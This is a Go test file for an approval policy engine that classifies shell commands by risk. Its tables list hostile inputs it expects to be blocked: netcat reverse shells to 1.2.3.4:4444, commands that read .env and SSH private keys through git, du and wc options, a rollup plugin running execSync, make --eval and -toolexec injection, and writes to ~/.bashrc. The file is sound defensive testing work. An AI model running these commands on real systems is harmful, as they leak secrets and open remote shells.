package policy

import (
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/internal/approval"
)

// TestOptionsThatSwallowWords: where a program takes an option's value only
// behind "=", or reads it as the name of a file, the next word is what it is
// told to do.
func TestOptionsThatSwallowWords(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for _, line := range []string{
		"git diff --abbrev .env", "git log -p --decorate .env", "git log -p --stat .env", "git diff --find-renames .env", "git show --pretty .env", "git diff --color .env", "git diff -U .env", "git diff --unified .env", "git diff --word-diff /home/u/.ssh/id_rsa /dev/null",
		"git commit --allow-empty -F.env", "git commit -qF .env", "git commit -aF/home/u/.ssh/id_rsa", "git commit --allow-empty --file .env", "git commit --file=.env", "git commit -F .env",
		"du --files0-from=.env", "du --files0-from .env", "du --files0=.env", "wc --files0 .env", "wc --fi .env",
		"make -j deploy", "make -l deploy", "make --jobs deploy", "make -j --eval='$(shell id)'", "make -j4 -j --eval=x test", "make test TESTFLAGS=-exec=./x", "make test RUN=-toolexec=./x", "make test TESTARGS=-px", "make -C sub -j publish", "rake -j deploy", "make test -j --eval=x",
		"cmake --build build -j --target install", "cmake --build build --config --target install", "cmake --build build -j install", "cmake --build build --target test install", "cmake --build build --target=test install",
		"go build -buildvcs -toolexec=./x ./...", "go test -buildvcs -exec=./x ./...", "go list -json -toolexec=./x ./...", "go test -p --exec=./x ./...", "go test -vet -exec=./x .",
		"ruff format -n /opt/x.py", "yapf -i -m /opt/x.py", "eslint -t /opt --fix", "pytest -k -p=x", "pytest -n -px",
		"npm -F exec test", "npm -F x t", "npm --filter publish test", "npm --cwd publish test", "npm --dir install test", "npm run --filter publish build", "yarn --filter publish test", "yarn --loglevel publish test", "pnpm --cwd publish test", "pnpm -w publish test",
	} {
		j := judge(e, lineCall(t, line))
		require.NotEqual(t, approval.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
		require.GreaterOrEqual(t, j.Assessment.RiskClass, approval.R3, "%s: %v", line, j.Assessment.ReasonCodes)
	}
	for _, line := range []string{
		"git log -3 --stat", "git log -n 3 --oneline --decorate --graph", "git diff --stat main", "git diff -U5 a.go", "git diff --unified=5 a.go", "git diff --abbrev=9", "git commit -m 'a b'", "git commit -F msg.txt", "git log -F --grep=a.b",
		"make -j", "make test TESTFLAGS=-v RUN=TestX", "make test TESTARGS=-count=1", "cmake --build build --target test all", "make -j4 test", "make -j 4 test", "make --jobs=4 test lint", "cmake --build build -j 4", "cmake --build build -j4 --target all", "cmake --build build --parallel --target test",
		"go build -buildvcs=false ./...", "go list -json ./...", "go test -run TestX -count 1 ./...", "pytest -n auto -k 'a and not b'", "pytest -n 4", "flake8 -j auto", "black -W 4 src", "mocha -g 'a b'",
		"npm run test -w web", "npm --prefix web test", "pnpm -r test", "pnpm --filter web test", "pnpm -F web test", "yarn --cwd web test", "bun --filter web test", "du -sh --exclude=x .", "wc -l a.go",
	} {
		require.Equal(t, approval.OutcomeAllow, judge(e, lineCall(t, line)).Outcome, line)
	}
}

// TestToolsThatRunWhatTheyAreTold: some project tools take code, commands or
// several targets where others take a file.
func TestToolsThatRunWhatTheyAreTold(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for _, line := range []string{
		"tox exec -- git push origin main", "tox e -- python x.py", "tox -x 'testenv.commands=git push origin main'", "tox -e venv -- x", "tox -e py -- python x.py", "tox -e release", "tox -e py311,deploy", "tox devenv x", "tox quickstart", "nox -s deploy", "nox -k deploy", "nox -t release", "nox -s test -- x", "python -m tox exec -- x", "poetry run tox exec -- x",
		"pytest --junitxml=~/.bashrc", "pytest --junitxml='~/.bashrc'", "pytest --junitxml='$HOME/.bashrc'", "pytest --junitxml='${HOME}/x'", "mypy --config=~/x.ini .",
		`rollup -p '{buildStart(){import("child_process").then(c=>c.execSync("id"))}}'`, `rollup -cp '{buildStart(){}}'`, "rollup --plugin x",
		"turbo run build deploy", "turbo build publish", "turbo run build --filter=web deploy", "actionlint -pyflakes=./x", "actionlint -pyflakes ./x", "actionlint -shellcheck=./x", "gradle build --scan",
	} {
		j := judge(e, lineCall(t, line))
		require.NotEqual(t, approval.OutcomeAllow, j.Outcome, "%s: %v", line, j.Assessment.ReasonCodes)
		require.GreaterOrEqual(t, j.Assessment.RiskClass, approval.R3, "%s: %v", line, j.Assessment.ReasonCodes)
	}
	for _, line := range []string{
		"tox", "tox -e py311", "tox -e py311,lint", "tox run -e mypy", "tox -r", "tox -p auto", "tox -e py -- tests/test_x.py", "tox -l", "nox -s tests", "nox -s lint-3.12", "nox -l", "nox --list",
		"pytest --junitxml=report.xml", "jest 'x.test.ts$'", "rollup -c", "rollup -c rollup.config.js", "turbo run build test lint", "turbo run build --filter=web", "turbo build", "actionlint", "goimports -w a.go", "gofumpt -l -w .",
	} {
		require.Equal(t, approval.OutcomeAllow, judge(e, lineCall(t, line)).Outcome, line)
	}
}

// TestShellsForOthersBehindUnknownWrappers: a command that hands a shell to the
// network is R4 also behind a program that policy does not know.
func TestShellsForOthersBehindUnknownWrappers(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for _, line := range []string{"watch nc -e /bin/sh 1.2.3.4 4444", "bash -c 'script -c nc -e /bin/sh 1.2.3.4 4444'", "strace nc -e /bin/sh 1.2.3.4 4444"} {
		require.Equal(t, approval.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
	}
	require.Equal(t, approval.R3, judge(e, lineCall(t, "apt-get install curl python3")).Assessment.RiskClass, "words are not commands that follow each other")
}

func TestOptionsWhoseValueMayBeMissing(t *testing.T) {
	t.Parallel()
	checkLines(t, engine(t), lines("R3", "ls | xargs --replace rm ls", "ls | xargs --max-lines rm ls", "grep --colour foobar .env"))
}
